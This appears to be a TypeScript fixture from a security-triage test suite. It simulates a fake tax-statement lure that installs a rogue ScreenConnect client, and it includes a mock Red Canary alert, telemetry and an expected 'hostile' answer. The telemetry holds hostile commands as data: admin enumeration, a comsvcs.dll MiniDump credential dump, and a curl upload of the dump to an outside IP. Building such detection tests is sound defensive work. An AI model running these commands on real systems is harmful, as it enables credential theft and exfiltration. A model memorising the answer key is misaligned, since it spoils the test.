// A remote support tool that was cleared before, now through the relay of somebody else.
import { alert, by, connected, hashes, hostile, ran, situation, ticket, wrote } from '../../shorthand.ts'

export const supportSessionThroughAnotherRelay = situation(
  'support-session-through-another-relay',
  'carry-over',
  'A support session whose relay is not ours',
  (setting) => {
    const edith = setting.person('edith.granath-forsell')
    const laptop = setting.laptopOf('edith.granath-forsell')
    const oskar = setting.person('oskar.falk')
    const at = setting.ago({ hours: 1, minutes: 12 })
    const before = setting.ago({ days: 12, hours: 4 })
    const client = setting.file('Statement_1099_View.Client.exe')
    const service = setting.file('ScreenConnect.ClientService.exe 25.4')
    const folder = 'C:\\Program Files (x86)\\ScreenConnect Client (6f21c09be77d4a18)'
    const relay = 'instance-wq71zc-relay.screenconnect.com'
    const serviceCommand = `"${folder}\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=${relay}&p=443&s=${setting.seeded.guid('relay session')}&k=BgIAAACkAABSU0ExAAgAAAEAAQ"`
    const ours =
      '"C:\\Program Files (x86)\\ScreenConnect Client (a90c1d5544be0e12)\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=havskog-relay.screenconnect.com&p=443"'
    const dump = 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 812 C:\\Windows\\Temp\\w.dmp full'
    const upload = 'curl.exe -k -T C:\\Windows\\Temp\\w.7z https://146.19.254.88:8443/in/'
    const remote = { AccountName: 'system', InitiatingProcessFileName: 'cmd.exe' }
    return {
      alerts: [
        alert(setting, at, 'red_canary', 'Remote management tool run from a user folder', {
          data: {
            id: setting.seeded.number('canary detection', 4000, 9000),
            type: 'Detection',
            links: {
              self: { href: 'https://havskog.my.redcanary.co/openapi/v3/detections/7741' },
              html: { href: 'https://havskog.my.redcanary.co/detections/7741' },
            },
            attributes: {
              headline: 'HAVSKOG-DETECTION-7741',
              confirmed_at: setting.iso(at + 6 * 60_000),
              last_activity_seen_at: setting.iso(at),
              summary:
                'A ScreenConnect client was installed from the Downloads folder and connected to a relay. Remote management tools are common in managed environments and are also misused. Please check whether this installation is expected.',
              severity: 'medium',
              last_acknowledged_at: null,
              last_acknowledged_by: null,
              last_remediated_status: null,
              classification: {
                superclassification: 'Suspicious Activity',
                subclassification: ['Remote Administration Tool'],
              },
              time_of_occurrence: setting.iso(at),
              affected_endpoints_count: 1,
              affected_identities_count: 1,
              number_of_iocs: 0,
              automation: { playbooks_run: 0, contained: false },
            },
            relationships: {
              affected_endpoint: {
                data: { type: 'Endpoint', id: setting.seeded.number('canary endpoint', 10_000, 90_000) },
                attributes: {
                  hostname: laptop.dnsName,
                  operating_system: 'Windows 11 Enterprise 24H2',
                  last_checkin_time: setting.iso(at + 5 * 60_000),
                  sensor_version: '4.1.2-28811',
                  sensor_status: 'live',
                  isolated: false,
                  internal_ip: laptop.ip,
                  tags: ['Boston', 'Technicians'],
                },
              },
              related_endpoint_user: { attributes: { username: `HAVSKOG\\${edith.account}`, uid: edith.sid } },
              detectors: {
                data: [
                  { id: 'WIN-SCREENCONNECT-USER-DIR', tactic: 'command-and-control', technique: 'T1219' },
                  { id: 'WIN-MSI-CHILD-OF-BROWSER-DL', tactic: 'execution', technique: 'T1204.002' },
                ],
              },
            },
            timeline: [
              {
                occurred_at: setting.iso(at - 3 * 60_000),
                kind: 'process',
                path: `C:\\Users\\${edith.account}\\Downloads\\Statement_1099_View.Client.exe`,
                md5: client.md5,
                sha256: client.sha256,
                signed: true,
                signer: 'ConnectWise, LLC',
                parent: 'msedge.exe',
                reputation: { threat_level: 'none', score: 0 },
              },
              {
                occurred_at: setting.iso(at),
                kind: 'process',
                path: `${folder}\\ScreenConnect.ClientService.exe`,
                command_line: serviceCommand,
                sha256: service.sha256,
                signed: true,
                signer: 'ConnectWise, LLC',
                parent: 'services.exe',
              },
            ],
            notes: [],
            feedback: { requested: true, due_at: setting.iso(at + 86_400_000) },
          },
          meta: { api_version: 'v3', subdomain: 'havskog', delivered_by: 'webhook', attempt: 1 },
        }),
      ],
      facts: {
        files: [
          {
            name: 'ScreenConnect.ClientService.exe',
            identity: service,
            determination: 'Clean',
            publisher: 'ConnectWise, LLC',
            prevalence: 610_000,
          },
        ],
        investigations: [
          ticket(
            setting,
            `ScreenConnect session on ${laptop.host}`,
            before,
            'BENIGN',
            [{ machine: laptop }, { person: edith }, { person: oskar }],
            'Oskar helped Edith with the label software through our own ScreenConnect (havskog-relay). Expected.',
          ),
        ],
        telemetry: [
          ran(laptop, before, 'ScreenConnect.ClientService.exe', ours, {
            AccountName: 'system',
            InitiatingProcessFileName: 'services.exe',
          }),
          wrote(
            laptop,
            at - 4 * 60_000,
            'Statement_1099_View.Client.exe',
            `C:\\Users\\${edith.account}\\Downloads`,
            client,
            {
              InitiatingProcessFileName: 'msedge.exe',
              FileOriginUrl: 'https://ssa-statement-view.pages.dev/dl/Statement_1099_View.Client.exe',
            },
          ),
          ran(laptop, at - 3 * 60_000, 'Statement_1099_View.Client.exe', 'Statement_1099_View.Client.exe', {
            ...by(edith),
            ...hashes(client),
            InitiatingProcessFileName: 'explorer.exe',
          }),
          ran(laptop, at, 'ScreenConnect.ClientService.exe', serviceCommand, {
            ...hashes(service),
            FolderPath: folder,
            AccountName: 'system',
            InitiatingProcessFileName: 'services.exe',
          }),
          connected(laptop, at + 2000, '147.75.63.19', {
            RemoteUrl: relay,
            InitiatingProcessFileName: 'ScreenConnect.ClientService.exe',
            InitiatingProcessCommandLine: serviceCommand,
          }),
          ran(laptop, at + 5 * 60_000, 'cmd.exe', 'cmd.exe /c C:\\Windows\\TEMP\\ScreenConnect\\25.4\\run.cmd', {
            AccountName: 'system',
            InitiatingProcessFileName: 'ScreenConnect.ClientService.exe',
          }),
          ran(laptop, at + 5 * 60_000 + 9000, 'net.exe', 'net group "Domain Admins" /domain', remote),
          ran(laptop, at + 6 * 60_000, 'nltest.exe', 'nltest /dclist:havskog', remote),
          ran(laptop, at + 9 * 60_000, 'rundll32.exe', dump, remote),
          ran(
            laptop,
            at + 11 * 60_000,
            '7za.exe',
            '7za.exe a -pQ9x C:\\Windows\\Temp\\w.7z C:\\Windows\\Temp\\w.dmp',
            remote,
          ),
          ran(laptop, at + 12 * 60_000, 'curl.exe', upload, remote),
          connected(laptop, at + 12 * 60_000 + 1000, '146.19.254.88', {
            RemotePort: 8443,
            InitiatingProcessFileName: 'curl.exe',
            InitiatingProcessCommandLine: upload,
          }),
        ],
      },
      expected: { ...hostile(laptop.host), severities: ['high', 'critical'] },
      because:
        'The cleared session of twelve days ago went through the relay of the company. Today a fake tax statement installed a client of another relay, and through it somebody listed the administrators, dumped the memory of the logon service, packed it and sent it out.',
    }
  },
)
